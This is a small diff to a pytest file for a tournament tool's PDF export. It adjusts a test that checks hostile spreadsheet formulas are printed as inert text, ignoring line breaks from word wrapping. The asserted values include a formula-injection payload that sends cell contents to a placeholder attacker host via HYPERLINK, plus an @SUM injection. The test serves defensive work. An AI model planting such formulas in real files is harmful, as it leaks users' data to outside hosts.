@@ -236,6 +236,8 @@ def test_characters_a_workbook_cannot_hold_are_left_out():
 @pytest.mark.parametrize("kind", ["standings", "seating"])
 def test_pdfs_show_formulas_as_plain_text(hostile, kind):
     document = document_pdf(tournament=hostile, kind=kind, series_number=1)
-    text = "\n".join(pdf_pages_text(document.content, layout=False))
+    # Long names wrap, inside a word if they must (issue 14.16): compare
+    # without the line breaks.
+    text = "".join("".join(pdf_pages_text(document.content, layout=False)).split())
     assert '=HYPERLINK("http://evil.example/?"&A1,"klick")' in text
     assert "@SUM(A1:A9)" in text
